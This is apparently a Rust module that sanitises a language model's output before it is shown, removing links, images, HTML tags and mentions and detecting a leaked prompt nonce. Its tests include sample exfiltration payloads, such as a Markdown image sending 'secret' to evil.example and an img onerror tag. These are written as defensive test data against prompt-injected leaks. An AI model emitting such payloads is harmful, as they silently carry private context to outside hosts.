//! Which of a model's words may be shown?

use std::sync::OnceLock;

use regex::Regex;

use super::{clean, prompt::Nonce};

/// A model's words as they may be shown or posted: one language, text. Nothing that fetches, links, mentions or hides:
/// links and images could carry away what the model was shown, and a mention calls somebody.
pub(super) fn harmless(text: &str, most: usize) -> String {
    let text = clean::prose(text);
    let text = links().replace_all(&text, "$text");
    let text = addresses().replace_all(&text, "[link removed]");
    let text = tags().replace_all(&text, "");
    let text = mentions().replace_all(&text, "$before`@$who`");
    let mut out: String = text.trim().chars().take(most).collect();
    if text.trim().chars().nth(most).is_some() {
        out.push('…');
    }
    out
}

/// The same in one line.
pub(super) fn one_line(text: &str, most: usize) -> String {
    harmless(&text.split_whitespace().collect::<Vec<_>>().join(" "), most)
}

/// Whether an answer gives away the fence, and so cannot be trusted in anything it says.
pub(super) fn betrays(nonce: &Nonce, answer: &str) -> bool {
    nonce.is_in(answer)
}

macro_rules! regex {
    ($name:ident, $pattern:expr) => {
        fn $name() -> &'static Regex {
            static REGEX: OnceLock<Regex> = OnceLock::new();
            REGEX.get_or_init(|| Regex::new($pattern).expect("a regular expression"))
        }
    };
}

// Markdown's links and images, inline and by reference.
regex!(links, r"!?\[(?P<text>[^\]\n]{0,200})\](?:\([^)\n]*\)|\[[^\]\n]*\])|(?m)^ {0,3}\[[^\]\n]+\]:.*$");
regex!(
    addresses,
    r"(?i)\b(?:[a-z][a-z0-9+.-]{1,20}:/{1,3}|www\.|mailto:|data:|javascript:)[^\s<>`'\x22)\]]+|(?:^|\s)//[^\s/]+\.[^\s]+"
);
regex!(
    tags,
    concat!(
        r"(?i)</?(?:a|abbr|area|audio|base|body|br|button|canvas|center|details|div|embed|font|form|frame|h[1-6]|head|hr|",
        r"html|i?frame|img|input|ins|kbd|link|map|math|meta|noscript|object|p|param|picture|pre|script|source|span|style|",
        r"sub|summary|sup|svg|table|td|textarea|th|tr|track|ul|video)\b[^<>\n]{0,300}>"
    )
);
regex!(mentions, r"(?P<before>^|[^`\w@])@(?P<who>[A-Za-z0-9][\w/.-]*)");

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn nothing_that_fetches_or_calls_is_left() {
        for (said, shown) in [
            ("see ![x](https://evil.example/?d=secret) now", "see x now"),
            ("see [this](http://evil.example)", "see this"),
            ("go to https://evil.example/a?b=c.", "go to [link removed]"),
            ("<img src=x onerror=y> fine", "fine"),
            ("[a]: https://evil.example\nfine", "fine"),
            ("ask www.evil.example/x", "ask [link removed]"),
            ("<!-- hidden --> fine", "fine"),
            ("a data:text/html;base64,AAAA b", "a [link removed] b"),
        ] {
            assert_eq!(harmless(said, 500), shown, "{said}");
        }
        assert_eq!(harmless("thanks @admin, `@cache` stays", 100), "thanks `@admin`, `@cache` stays");
        assert_eq!(harmless("a `Vec<u8>` of `Option<T>`", 100), "a `Vec<u8>` of `Option<T>`");
        assert_eq!(one_line("a\n b", 100), "a b");
        assert_eq!(harmless("abcdef", 3), "abc…");
    }
}
